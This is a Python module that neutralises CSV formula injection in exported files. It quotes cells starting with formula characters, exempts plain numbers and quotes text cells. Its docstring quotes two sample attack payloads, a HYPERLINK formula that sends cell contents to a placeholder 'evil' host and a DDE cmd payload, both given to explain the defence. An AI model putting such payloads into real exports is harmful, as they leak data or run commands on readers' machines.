"""CSV cells that a spreadsheet shows as text and never runs as a formula.

Client staff open result files and notification exports in Excel, LibreOffice or
Google Sheets. A cell that starts with `=`, `+`, `-` or `@` is read as a formula (a tab
or a carriage return before one too), so a reference such as `=HYPERLINK("http://evil/?"&A1)`
or `+cmd|' /C calc'!A0` would run on the reader's machine. As OWASP recommends
(CSV Injection), such a cell gets a single quote `'` in front, which spreadsheets
show as text. A value that starts with `'` gets one too, so that the rule is
undone exactly: a cell that starts with `'` had one added; remove that first
character.

One exception: a plain number (`-150000`, `+6281234567890`, `-12.5`: an optional
sign, digits, an optional decimal part) is written as it is. A spreadsheet reads
it as a number, with nothing to evaluate (no reference, function or operator
between two operands), and a negative balance quoted into text could no longer be
added up.

Every text cell is also written between double quotes (OWASP's other half):
with the "\n" line end of our files, csv.writer's minimal quoting leaves a
lone carriage return unquoted, and a spreadsheet starts a new row there, so
`x\r=1+1` would put `=1+1` at the start of a row of its own. Whole numbers (the
line number) stay bare.

Not defusedcsv: it leaves a leading tab or carriage return alone and changes
every `|` into `\\|`, so a client's parser could not get its reference back.
"""

import csv
import re

# The first characters that make a spreadsheet evaluate a cell, and the quote itself.
FORMULA_STARTS = frozenset("=+-@\t\r'")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?", re.ASCII)


def spreadsheet_safe(value: str) -> str:
    """The value as a cell a spreadsheet shows as text: `'` added before a formula's start."""
    if value[:1] in FORMULA_STARTS and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_writer(file):
    """A csv.writer whose text cells are written spreadsheet_safe (numbers as they are)."""
    return _SafeWriter(csv.writer(file, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC))


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row) -> None:
        self._writer.writerow(_safe_row(row))

    def writerows(self, rows) -> None:
        self._writer.writerows(map(_safe_row, rows))


def _safe_row(row) -> list:
    return [spreadsheet_safe(cell) if cell.__class__ is str else cell for cell in row]
